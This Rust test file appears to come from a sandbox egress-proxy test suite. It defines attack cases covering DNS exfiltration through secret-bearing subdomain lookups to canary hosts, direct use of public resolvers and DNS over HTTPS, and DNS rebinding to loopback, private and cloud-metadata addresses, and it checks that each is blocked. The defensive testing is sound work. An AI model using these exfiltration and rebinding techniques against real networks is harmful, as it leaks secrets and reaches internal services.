//! Attacks through DNS: secrets in queries, and names that change their address.

use ralph_engine::audit::AuditReader;

use super::super::arena::{EgressArena, ample_ledger};
use super::super::case::EgressControl::{Host, Other, Same, Says};
use super::super::case::{EgressCase, case_verdict, require_control};
use super::super::policies::PolicyPreset::{Denying, Listing, Open, Strict};
use crate::report::AttackVerdict;

const SECRET: &str = "mfzwk43u-nfzsa5dimu";
const DATAGRAM: &[&str] = &["udp:{udp}", "send:hello", "receive"];
const STREAM: &[&str] = &["tcp:{plain}", "send:hello", "receive"];
const LOOKUP: &[&str] = &["lookup:mfzwk43u.canary.test"];
const OWN_UDP: &[&str] = &["udp:8.8.8.8:53", "ask:1:allowed.test"];
const OWN_TCP: &[&str] = &["tcp:8.8.8.8:53", "ask:1:allowed.test"];
const GIVEN: &str = "code 0 answers 1 synthetic";

pub(super) const CASES: &[EgressCase] = &[
    EgressCase::blocked(
        "DN-01.lookup",
        "a secret in a name that is looked up",
        LOOKUP,
        "failed at lookup",
        Says(Open, LOOKUP, "address 198.18."),
    ),
    EgressCase::blocked(
        "DN-01.denied",
        "a secret in a name below a denied one",
        LOOKUP,
        "failed at lookup",
        Says(Open, LOOKUP, "address 198.18."),
    )
    .under(Denying),
    EgressCase::blocked(
        "DN-02.connect",
        "a secret in a name, by `CONNECT`",
        &["connect:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.absolute",
        "a secret in a name, in an absolute URL",
        &["proxy", r"send:GET http://mfzwk43u.canary.test/ HTTP/1.1\r\nHost: mfzwk43u.canary.test\r\n\r\n", "receive"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.socks",
        "a secret in a name, by SOCKS",
        &["socks:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
        "socks 2",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.named",
        "a secret in a name, by a direct connection",
        &["name:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
        "failed at name",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-02.port",
        "a secret as a subdomain of an allowed name",
        &["connect:mfzwk43u.allowed.test:443", "tls:mfzwk43u.allowed.test", "send:hello", "receive"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-03.udp-door",
        "a public name server",
        &["udp:8.8.8.8:53", "ask:1:x.canary.test"],
        "code 3 answers 0",
        Says(Strict, OWN_UDP, GIVEN),
    ),
    EgressCase::blocked(
        "DN-03.tcp-door",
        "a public name server over TCP",
        &["tcp:8.8.8.8:53", "ask:1:x.canary.test"],
        "code 3 answers 0",
        Says(Strict, OWN_TCP, GIVEN),
    ),
    EgressCase::blocked(
        "DN-03.tls-door",
        "a public name server over TLS",
        &["tcp:1.1.1.1:853", "receive"],
        "failed at tcp",
        Host(STREAM),
    ),
    EgressCase::blocked(
        "DN-03.socks",
        "a public name server by SOCKS",
        &["socksip:8.8.8.8:53", "ask:1:x.canary.test"],
        "socks 2",
        Other(Open, &["socksip:8.8.8.8:53", "send:hello", "receive"]),
    ),
    EgressCase::blocked(
        "DN-03.connect",
        "a public name server by `CONNECT`",
        &["connect:dns.google:53", "ask:1:x.canary.test"],
        "HTTP/1.1 403",
        Other(Open, &["connect:dns.google:53", "send:hello", "receive"]),
    ),
    EgressCase::blocked(
        "DN-04.connect",
        "DNS over HTTPS",
        &["connect:cloudflare-dns.com:443", "tls:cloudflare-dns.com", "send:hello", "receive"],
        "HTTP/1.1 403",
        Same(Open),
    ),
    EgressCase::blocked(
        "DN-04.socks",
        "DNS over HTTPS by its address",
        &["socksip:1.1.1.1:443", "tls:-", "send:hello", "receive"],
        "socks 2",
        Same(Open),
    ),
    EgressCase::custom("DN-05.question", "a secret below a wildcard, only looked up", |arena| {
        Box::pin(lookup_stays_inside(arena))
    }),
    EgressCase::custom("DN-05.audit", "a secret below a wildcard, in the audit log", |arena| {
        Box::pin(wildcard_is_audited(arena))
    }),
    EgressCase::custom("DN-06.loopback", "a name rebound to the loopback", |g| Box::pin(rebind(g, &["127.0.0.1"]))),
    EgressCase::custom("DN-06.loopback6", "a name rebound to the IPv6 loopback", |g| Box::pin(rebind(g, &["::1"]))),
    EgressCase::custom("DN-06.metadata", "a name rebound to cloud metadata", |g| {
        Box::pin(rebind(g, &["169.254.169.254"]))
    }),
    EgressCase::custom("DN-06.private", "a name rebound to a private address", |g| Box::pin(rebind(g, &["10.0.0.5"]))),
    EgressCase::custom("DN-06.mapped", "a name rebound to an IPv4-mapped address", |g| {
        Box::pin(rebind(g, &["::ffff:169.254.169.254"]))
    }),
    EgressCase::custom("DN-06.nat64", "a name rebound to cloud metadata behind NAT64", |g| {
        Box::pin(rebind(g, &["64:ff9b::a9fe:a9fe"]))
    }),
    EgressCase::custom("DN-06.mixed", "a name with a public and an internal address", |g| {
        Box::pin(rebind(g, &["93.184.215.14", "127.0.0.1"]))
    }),
    EgressCase::custom("DN-06.own", "a name rebound to a synthetic address", |g| Box::pin(rebind(g, &["198.18.1.0"]))),
    EgressCase::custom("DN-06.once", "a name that changes between check and dial", |g| Box::pin(resolved_once(g))),
    EgressCase::custom("DN-06.requests", "a name that changes between two requests", |g| {
        Box::pin(rebind_between_requests(g))
    }),
    EgressCase::blocked(
        "DN-10.mdns",
        "a multicast DNS query",
        &["udp:224.0.0.251:5353", "ask:1:printer.local"],
        "failed at",
        Host(DATAGRAM),
    ),
    EgressCase::blocked(
        "DN-10.llmnr",
        "an LLMNR query",
        &["udp:224.0.0.252:5355", "ask:1:printer"],
        "failed at",
        Host(DATAGRAM),
    ),
    EgressCase::custom("DN-12.connect", "an address whose name is no longer allowed", |g| Box::pin(stale(g))),
    EgressCase::custom("DN-12.cut", "a connection whose name is no longer allowed", |g| Box::pin(cut(g))),
];

/// Checks that a lookup alone causes no query outside.
async fn lookup_stays_inside(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.shared_cage(Strict).await?;
    let name = format!("{SECRET}.wild.test");
    let (reply, happened) = arena.run_attack(&cage, &[format!("lookup:{name}")]).await?;
    require_control(&reply, reply.contains("address 198.18."))?;
    let words = [format!("connect:{name}:443"), format!("tls:{name}"), "send:hello".to_owned(), "receive".to_owned()];
    let (reply, reached) = arena.run_attack(&cage, &words).await?;
    require_control(&reply, reached.queries == [name])?;
    case_verdict(!happened.is_empty(), happened.summary())
}

/// Checks that everything a wildcard allows is in the audit log with its full name.
async fn wildcard_is_audited(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.new_audited_cage(Strict).await?;
    let name = format!("{SECRET}.wild.test");
    let before = audited_hosts(arena)?.iter().filter(|host| **host == name).count();
    let words = [format!("name:{name}:443"), format!("tls:{name}"), "send:hello".to_owned(), "receive".to_owned()];
    let (reply, happened) = arena.run_attack(&cage, &words).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(&reply, happened.queries.contains(&name))?;
    let after = audited_hosts(arena)?.iter().filter(|host| **host == name).count();
    // One record for the query and one for the connection.
    case_verdict(after < before + 2, format!("{name} is in the audit log {after} times"))
}

/// Returns the host of every record in the audit log.
fn audited_hosts(arena: &EgressArena) -> Result<Vec<String>, AttackVerdict> {
    let mut reader = AuditReader::new(&arena.run_folder());
    let mut hosts = Vec::new();
    while let Some(entry) = reader.next().map_err(super::super::arena::suite_error)? {
        hosts.extend(entry.record.map(|record| record.host.unwrap_or_default()));
    }
    Ok(hosts)
}

fn access_scripts(host: &str) -> [Vec<String>; 3] {
    ["connect", "socks", "name"].map(|way| {
        let get = format!(r"send:GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
        vec![format!("{way}:{host}:443"), format!("tls:{host}"), get, "receive".to_owned()]
    })
}

/// Checks a listed name that resolves to a public address first, and to an internal one afterwards.
async fn rebind(arena: &EgressArena, inside: &[&str]) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.shared_cage(Strict).await?;
    for (host, words) in
        [("rebind.test", access_scripts("rebind.test")), ("rebind-api.test", access_scripts("rebind-api.test"))]
    {
        let [first, ..] = &words;
        arena.network.set_dns_answers(host, &[&["93.184.215.14"], inside]);
        let (reply, happened) = arena.run_attack(&cage, first).await?;
        require_control(&reply, !happened.messages.is_empty())?;
        for words in &words {
            let (reply, happened) = arena.run_attack(&cage, words).await?;
            if !happened.dials.is_empty() {
                return case_verdict(true, format!("{words:?}: {} and the client got {reply}", happened.summary()));
            }
            require_control(&reply, happened.queries.len() == 1)?;
        }
    }
    case_verdict(false, "")
}

/// Checks that the proxy dials the address it checked: a name is resolved once, however often it would change.
async fn resolved_once(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.shared_cage(Strict).await?;
    for host in ["rebind.test", "rebind-api.test"] {
        for words in access_scripts(host) {
            arena.network.set_dns_answers(host, &[&["93.184.215.14"], &["127.0.0.1"]]);
            let (reply, happened) = arena.run_attack(&cage, &words).await?;
            require_control(&reply, !happened.messages.is_empty())?;
            let inside = happened.dials.iter().any(|dialled| dialled.ip().is_loopback());
            if inside || happened.queries.len() != 1 || happened.dials.len() != 1 {
                return case_verdict(true, happened.summary());
            }
        }
    }
    case_verdict(false, "")
}

/// Checks that an open connection keeps its address.
async fn rebind_between_requests(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.shared_cage(Strict).await?;
    let host = "rebind-api.test";
    arena.network.set_dns_answers(host, &[&["93.184.215.14"], &["169.254.169.254"]]);
    let get = |path: &str| format!(r"send:GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let words = [
        format!("connect:{host}:443"),
        format!("tls:{host}"),
        get("one"),
        "receive".into(),
        get("two"),
        "receive".into(),
    ];
    let (reply, happened) = arena.run_attack(&cage, &words).await?;
    require_control(&reply, happened.received("GET /one"))?;
    case_verdict(happened.dials.len() != 1, happened.summary())
}

/// Returns the address from a lookup's answer.
fn address(reply: &str) -> String {
    reply.lines().find_map(|line| line.strip_prefix("address ")).unwrap_or("").to_owned()
}

async fn stale(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.new_cage(Strict, ample_ledger()).await?;
    let old = address(&arena.run_client(&cage, &["lookup:allowed.test"]).await?);
    let words =
        [format!("tcp:{old}:443"), "tls:allowed.test".to_owned(), "send:hello".to_owned(), "receive".to_owned()];
    let (reply, reached) = arena.run_attack(&cage, &words).await?;
    require_control(&reply, !reached.messages.is_empty())?;
    cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
    let (reply, happened) = arena.run_attack(&cage, &words).await?;
    // Another name must not get the old one's address either.
    let other = address(&arena.run_client(&cage, &["lookup:other.test"]).await?);
    cage.with_egress(|pass| Strict.policy().map(|policy| pass.set_policy(policy)));
    let (again, returned) = arena.run_attack(&cage, &words).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(&other, other.starts_with("198.18."))?;
    let bad = !happened.is_empty() || !returned.is_empty() || other == old;
    case_verdict(bad, format!("{} and the client got {reply} {again}, {old} {other}", happened.summary()))
}

/// Checks that a connection in use is closed when the policy stops allowing it.
async fn cut(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = arena.new_cage(Strict, ample_ledger()).await?;
    let get = |path: &str| format!(r"send:GET /{path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
    let first =
        ["connect:allowed.test:443".to_owned(), "tls:allowed.test".to_owned(), get("one"), "receive".to_owned()];
    let then = [get("two"), "receive".to_owned()];
    let (kept, before) = arena.run_interrupted(&cage, &first, &then, async || ()).await?;
    let change = async || {
        cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
    };
    let (reply, after) = arena.run_interrupted(&cage, &first, &then, change).await?;
    let _ = cage.sandbox.destroy().await;
    require_control(kept, before.received("GET /two"))?;
    require_control(&reply, after.received("GET /one"))?;
    case_verdict(after.received("GET /two"), reply)
}
